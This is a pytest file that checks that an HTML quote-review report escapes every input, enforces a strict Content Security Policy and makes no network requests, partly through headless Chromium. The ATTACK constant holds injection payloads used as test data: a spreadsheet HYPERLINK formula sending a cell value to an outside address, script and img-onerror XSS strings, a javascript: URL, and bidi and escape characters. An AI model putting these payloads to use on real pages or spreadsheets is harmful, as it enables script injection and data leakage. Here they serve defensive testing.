"""The page: words are words, nothing acts but the one script, and in a real browser decisions come and go."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import shutil
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from handmade import DENIED, DIRECT, DOCUMENT, quoting
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from test_formats import documents, written

from quotes import Document, Metadata, Verdict, attribute
from quotes.cli import main
from quotes.reviewing.decisions import parse
from quotes.safe import clean, one_line

DECISION = Draft202012Validator(json.loads((files("quotes") / "schemas" / "decisions.json").read_text("utf-8")))
ROOT = Path(__file__).resolve().parents[2]
ARTICLE = ROOT / "data" / "articles" / "senate-hearing.txt"


class Page(HTMLParser):
    """What a browser makes of the markup: elements, the text of the article, the words of the rows."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.rows: list[str] = []
        self.within: list[str] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        known = dict(attributes)
        self.elements.append((tag, known))
        if tag not in ("meta", "input", "option"):
            self.within.append(f"{tag}.{known.get('class')}")
        if tag == "blockquote":
            self.rows.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag not in ("option",):
            self.within.pop()

    def handle_data(self, data: str) -> None:
        if "div.text" in self.within and not self.within[-1].startswith("a.number"):
            self.text += data
        if self.within and self.within[-1] == "blockquote.None":
            self.rows[-1] += data


def page(*some: Document) -> Page:
    return Page(written("html", *some))


def test_every_step_says_what_its_rule_means() -> None:
    source = written("html", attribute("“It works,” said Mary Smith."))
    assert "<b>content-cue-source</b> “said” — cue — the words, then the cue, then the source: “…,” said X</li>" in source


def test_the_page_asks_nobody_and_lets_nothing_act_but_its_own() -> None:
    source = written("html", DOCUMENT)
    [policy] = [known["content"] for tag, known in page(DOCUMENT).elements if known.get("http-equiv")]
    for tag in ("style", "script"):
        [inner] = re.findall(rf"<{tag}>(.*?)</{tag}>", source, re.DOTALL)
        digest = base64.b64encode(hashlib.sha256(inner.encode()).digest()).decode()
        assert f"{tag}-src 'sha256-{digest}'" in policy and "<!--" not in inner
    assert policy.startswith("default-src 'none';") and "unsafe" not in policy
    assert not re.search(r"""(?:src|href|action)=["'](?!#)""", source)
    assert "url(" not in source and "@import" not in source
    assert not [
        known for _, known in page(DOCUMENT).elements if "style" in known or any(k.startswith("on") for k in known)
    ]


def test_an_article_with_everything_known() -> None:
    about = Metadata(title="Talks & more", byline="By Jo Ray", date="2016", url="https://example.org/?a=1&b")
    corrected = replace(DIRECT, verdict=Verdict.CORRECTED, note="heard it")
    found = page(replace(DOCUMENT, metadata=about, quotes=(corrected, DENIED)))
    assert found.text == DOCUMENT.text and found.rows == [DIRECT.text, DENIED.text]
    assert [known["href"] for tag, known in found.elements if tag == "a" and "rel" in known] == [about.url]
    data = [json.loads(known["data-quote"] or "") for _, known in found.elements if "data-quote" in known]
    assert (data[0]["verdict"], data[0]["note"], data[1]["speaker"]) == ("corrected", "heard it", "The Kremlin")
    evil = page(replace(DOCUMENT, metadata=Metadata(url="javascript:alert(1)")))
    assert not [known for tag, known in evil.elements if tag == "a" and "rel" in known]


@given(documents())
def test_the_article_in_the_page_is_the_article(document: Document) -> None:
    found = page(document)
    edges = sorted({0, len(document.text), *(e for q in document.quotes for p in
                    (*q.content, *q.cue, *((q.source,) if q.source else ())) for e in p.span)})  # fmt: skip
    assert found.text == "".join(clean(document.text[a:b]) for a, b in zip(edges, edges[1:]))
    numbers = [known["href"] for tag, known in found.elements if tag == "a" and "id" in known]
    assert sorted(numbers) == sorted(f"#r1-{n + 1}" for n in range(len(document.quotes)))


@given(st.text(min_size=1))
def test_any_words_stay_words(said: str) -> None:
    plain, found = page(quoting("x", speaker="y", id="z")), page(quoting(f"x{said}", speaker=said, id=said))
    assert [tag for tag, _ in found.elements] == [tag for tag, _ in plain.elements]
    assert found.rows == [one_line(f"x{said}")]


# --- in a browser

CHROMIUM, DRIVER = shutil.which("chromium"), shutil.which("chromedriver")
FLAGS = (
    "--headless=new --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
    "--disable-component-update --disable-sync --window-size=1280,800"
).split()
ATTACK = """=HYPERLINK("http://192.0.2.1/"&A1) <script>document.title='owned'</script></style></script></title>

“<img src=http://192.0.2.1/x onerror="document.title='owned'"> [red]markup[/red],” said Mary <b>Smith</b> Jones.

“‘"onload=document.title='owned' x='\x1b[31m \u202enwod edispu\u202c \x00,” said Jo Ray.
"""


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """A Chromium without a window and without the network; what it downloads is in `browser.downloads`."""
    if not (CHROMIUM and DRIVER):
        pytest.skip("no Chromium here: scripts/programs installs it on Debian")
    webdriver = pytest.importorskip("selenium.webdriver", reason="selenium drives the browser: pip install selenium")
    from selenium.webdriver.chrome.service import Service

    downloads = tmp_path_factory.mktemp("downloads")
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in (*FLAGS, f"--user-data-dir={tmp_path_factory.mktemp('profile')}"):
        options.add_argument(flag)
    options.add_experimental_option("prefs", {"download.default_directory": str(downloads)})
    options.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
    driver = webdriver.Chrome(options=options, service=Service(DRIVER))
    driver.downloads = downloads
    yield driver
    driver.quit()


def report(folder: Path, *arguments: str) -> str:
    assert CliRunner().invoke(main, ["extract", *arguments, "-o", str(folder / "report.html")]).exit_code == 0
    return (folder / "report.html").as_uri()


def requests(browser: Any) -> set[str]:
    """The addresses that were asked for since the last call, and nothing said by the console."""
    assert browser.get_log("browser") == []
    events = (json.loads(entry["message"])["message"] for entry in browser.get_log("performance"))
    asked = [e["params"] for e in events if e["method"] == "Network.requestWillBeSent"]
    ours = {
        each["request"]["url"] for each in asked if each["documentURL"].startswith("file:")
    }  # not Chromium's own pages
    return {url for url in ours if not url.startswith("blob:")}  # the download, made in the page


def waited(browser: Any, path: Path) -> str:
    from selenium.webdriver.support.ui import WebDriverWait

    WebDriverWait(browser, 10).until(lambda _: path.exists() and path.stat().st_size)
    return path.read_text(encoding="utf-8")


def test_a_review_in_the_browser_ends_up_in_the_export(browser: Any, tmp_path: Path) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    from selenium.webdriver.support.ui import Select

    def one(selector: str) -> Any:
        return browser.find_element(By.CSS_SELECTOR, selector)

    def visible() -> list[Any]:
        return [row for row in browser.find_elements(By.CSS_SELECTOR, ".row") if row.is_displayed()]

    def seen(element: Any) -> bool:
        script = """const box = arguments[0].getBoundingClientRect();
            const at = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
            return !!at && (arguments[0].contains(at) || at.contains(arguments[0]))"""
        return bool(browser.execute_script(script, element))

    browser.get_log("performance")
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [REDUCED]})
    address = report(tmp_path, str(ARTICLE))
    browser.get(address)
    text = ARTICLE.read_text(encoding="utf-8")
    total = len(visible())
    assert total > 20 and one("#count").text == f"{total} of {total} quotes, {total} still open"

    # filters
    Select(one("#speaker")).select_by_visible_text("Grant Pellham")
    some = visible()
    assert 0 < len(some) < total
    assert {json.loads(row.get_attribute("data-quote"))["speaker"] for row in some} == {"Grant Pellham"}
    Select(one("#speaker")).select_by_index(0)
    Select(one("#type")).select_by_visible_text("indirect")
    some = visible()
    assert 0 < len(some) < total
    Select(one("#stance")).select_by_visible_text("denied")
    assert 0 < len(visible()) < len(some)
    denied = [json.loads(row.get_attribute("data-quote")) for row in visible()]
    assert {(data["type"], data["stance"]) for data in denied} == {("indirect", "denied")}
    for name in ("type", "stance"):
        Select(one(f"#{name}")).select_by_index(0)
    one("#to").clear()
    one("#to").send_keys("0.7")
    assert {json.loads(row.get_attribute("data-quote"))["confidence"] <= 0.7 for row in visible()} == {True}
    one("#to").clear()
    one("#to").send_keys("1")
    assert len(visible()) == total

    # a row leads to its words, and words to their row
    last = visible()[-1]
    last.click()
    number = last.get_attribute("id")[1:]
    assert seen(one(f"[id='q{number}']")) and "here" in one(f"[data-quotes~='{number}']").get_attribute("class")
    browser.execute_script("document.querySelector('article').scrollTop = 0")
    one("[data-quotes~='1-2']").click()
    row = one("[id='r1-2']")
    assert row.get_attribute("aria-current") == "true" and seen(row)
    assert browser.switch_to.active_element == row

    # by keys alone: fix a speaker, note, accept, reject, take back
    keys = row.send_keys
    keys("s")
    field = browser.switch_to.active_element
    assert field.get_attribute("name") == "speaker"
    field.send_keys(Keys.CONTROL + "a")
    field.send_keys("Grant <b>Pellham</b>" + Keys.ENTER)
    assert "corrected" in one("[id='r1-2'] .verdict").text
    group = one("[id='r1-2']").find_element(By.XPATH, "ancestor::section[1]/h2")
    assert group.text == "Grant <b>Pellham</b>"
    browser.switch_to.active_element.send_keys("n")
    browser.switch_to.active_element.send_keys("see the transcript" + Keys.ENTER)
    browser.switch_to.active_element.send_keys("j")  # goes on where the quote stood before it got another speaker
    assert browser.switch_to.active_element.get_attribute("id") == "r1-3"
    for number, key in (("1-1", "a"), ("1-4", "r"), ("1-5", "r"), ("1-5", "u")):
        browser.execute_script("arguments[0].scrollIntoView()", one(f"[id='r{number}'] blockquote"))
        one(f"[id='r{number}'] blockquote").click()
        browser.switch_to.active_element.send_keys(key)
    assert one("#count").text.endswith(f"{total - 3} still open")

    # taken away, applied, brought back
    one("#download").click()
    lines = waited(browser, browser.downloads / "decisions.jsonl")
    verdicts = {decision.content[0][0]: decision for decision in map(parse, lines.splitlines())}
    assert [d.verdict.value for _, d in sorted(verdicts.items())] == ["accepted", "corrected", "rejected", "undecided"]
    for line in lines.splitlines():
        DECISION.validate(json.loads(line))
    assert all(d.sha256 == hashlib.sha256(text.encode()).hexdigest() for d in verdicts.values())
    decisions = str(browser.downloads / "decisions.jsonl")
    result = CliRunner().invoke(main, ["extract", str(ARTICLE), "--decisions", decisions])
    table = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert (result.exit_code, result.stderr, len(table)) == (0, "", total - 1)
    assert [(row["speaker"], row["note"]) for row in table if row["verdict"] == "corrected"] == [
        ("Grant <b>Pellham</b>", "see the transcript")
    ]
    browser.refresh()
    assert "4 decisions of an earlier visit are back" in one("#status").text
    browser.execute_script("localStorage.clear()")
    browser.refresh()
    assert one("#count").text.endswith(f"{total} still open")
    Path(decisions).write_text(lines + '{"sha256": "x", "content": [[1, 2]], "verdict": "accepted"}\nnonsense\n')
    one("#load").send_keys(decisions)
    from selenium.webdriver.support.ui import WebDriverWait

    WebDriverWait(browser, 10).until(lambda _: "loaded" in one("#status").text)
    assert one("#status").text == (
        "4 decisions loaded; 1 match no quote of this page and are kept for the download; no decision in line 6."
    )
    assert one("#count").text.endswith(f"{total - 3} still open")
    assert requests(browser) == {address}


REDUCED = {"name": "prefers-reduced-motion", "value": "reduce"}
CONTRAST = """
const channel = (c) => (c /= 255) <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
const canvas = new OffscreenCanvas(1, 1).getContext("2d", {willReadFrequently: true});
const light = (...colors) => {
  for (const color of colors) { canvas.fillStyle = color; canvas.fillRect(0, 0, 1, 1); }
  const [r, g, b] = canvas.getImageData(0, 0, 1, 1).data;
  return 0.2126 * channel(r) + 0.7152 * channel(g) + 0.0722 * channel(b);
};
const grounds = (e) => e ? [...grounds(e.parentElement), getComputedStyle(e).backgroundColor] : [];
return [...document.querySelectorAll("main *, header *")].filter((e) => e.getClientRects().length &&
  [...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim())).map((e) => {
  const ground = grounds(e), one = light(...ground), two = light(...ground, getComputedStyle(e).color);
  return [(Math.max(one, two) + 0.05) / (Math.min(one, two) + 0.05), e.className + " " + e.textContent.slice(0, 30)];
}).sort((a, b) => a[0] - b[0])[0];
"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 400])
def test_words_can_be_read_in_light_and_dark_wide_and_narrow(
    browser: Any, tmp_path: Path, scheme: str, width: int
) -> None:
    features = [{"name": "prefers-color-scheme", "value": scheme}, REDUCED]
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": features})
    size = {"width": width, "height": 800, "deviceScaleFactor": 1, "mobile": False}
    browser.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", size)
    browser.get(report(tmp_path, str(ARTICLE)))
    lowest, words = browser.execute_script(CONTRAST)
    assert lowest >= 4.5, words  # WCAG 2.2, level AA
    assert browser.execute_script("return document.documentElement.scrollWidth") <= width
    browser.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


def test_nothing_in_a_hostile_article_acts(browser: Any, tmp_path: Path) -> None:
    (tmp_path / "a.jsonl").write_text(json.dumps({"id": "<b>", "title": ATTACK, "text": ATTACK, "url": "javascript:x"}))
    browser.get_log("performance")
    address = report(tmp_path, str(tmp_path / "a.jsonl"))
    browser.get(address)
    script = (
        "return [document.title, document.scripts.length, document.images.length, document.querySelector('.text b')]"
    )
    assert browser.execute_script(script) == ["Quotes", 1, 0, None]
    shown = browser.execute_script("""const text = document.querySelector(".text").cloneNode(true);
        for (const number of text.querySelectorAll(".number")) number.remove();
        return text.textContent""")
    assert shown == clean(ATTACK)
    assert browser.execute_script("return document.querySelectorAll('.row').length") >= 2
    assert requests(browser) == {address}
